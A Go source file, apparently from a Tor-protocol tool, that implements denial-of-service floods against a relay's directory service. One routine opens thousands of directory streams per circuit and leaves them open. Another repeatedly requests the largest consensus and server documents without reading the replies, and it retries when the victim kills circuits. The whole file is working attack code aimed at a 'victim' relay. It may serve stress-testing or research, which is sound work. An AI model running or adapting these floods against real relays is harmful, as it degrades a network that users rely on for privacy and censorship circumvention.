package flood

import (
	"context"

	"github.com/chivenet/chive/internal/cell"
	"github.com/chivenet/chive/internal/channel"
	"github.com/chivenet/chive/internal/circuit"
	"github.com/chivenet/chive/internal/fault"
)

// The documents to ask for: the largest ones that every directory has.
var bigDocuments = []string{"/tor/server/all", "/tor/status-vote/current/consensus"}

// request is the request for the n-th document of them.
func request(n int) []byte {
	return []byte("GET " + bigDocuments[n%len(bigDocuments)] + " HTTP/1.0\r\n\r\n")
}

// streamsPerCircuit is how many streams an attacker opens on one circuit.
const streamsPerCircuit = 2_000

// dirStreams opens directory streams, asks for nothing, and closes none.
func dirStreams(ctx context.Context, a *attack) error {
	return a.channels(ctx, func(ctx context.Context, ch *channel.Channel, _ *gated) error {
		return a.dirCircuits(ctx, ch, func(c *circuit.Circuit) error {
			for range streamsPerCircuit {
				if !a.rate.take(ctx, 1) {
					return context.Cause(ctx)
				}
				var id uint16
				if err := c.Last().OpenStream(func(n uint16) circuit.StreamReceiver { id = n; return ignore{} }); err != nil {
					return err
				}
				if err := c.Last().Send(cell.RelayBeginDir, id, nil); err != nil {
					return err
				}
				a.sent.Add(1)
			}
			return nil
		})
	})
}

// dirUnread asks for documents on stream after stream, and reads nothing.
func dirUnread(ctx context.Context, a *attack) error {
	return a.channels(ctx, func(ctx context.Context, ch *channel.Channel, conn *gated) error {
		c, err := build(ctx, a, ch, nil, &a.Victim)
		if err != nil {
			return err
		}
		conn.Shut() // no further circuit can be opened, so use only one
		for id := uint16(1); a.rate.take(ctx, 1); id++ {
			if err := c.Last().Send(cell.RelayBeginDir, id, nil); err != nil {
				return err
			}
			if err := c.Last().Send(cell.RelayData, id, request(int(id))); err != nil {
				return err
			}
			a.sent.Add(1)
		}
		return stay(ctx, ch)
	})
}

// dirCircuits makes circuits of one hop one after the other, and calls f with each
// until ctx is done or the channel closes. It closes none of them.
func (a *attack) dirCircuits(ctx context.Context, ch *channel.Channel, f func(*circuit.Circuit) error) error {
	for ctx.Err() == nil {
		if err := ch.Err(); err != nil {
			return err
		}
		c, err := build(ctx, a, ch, nil, &a.Victim)
		if err != nil {
			return err
		}
		if err := f(c); err != nil {
			if fault.Is(err, fault.Closed) || c.Err() != nil {
				a.refused.Add(1) // the victim destroyed the circuit
				a.note(c.Err())
				pause(ctx, retry)
				continue
			}
			return err
		}
	}
	return context.Cause(ctx)
}
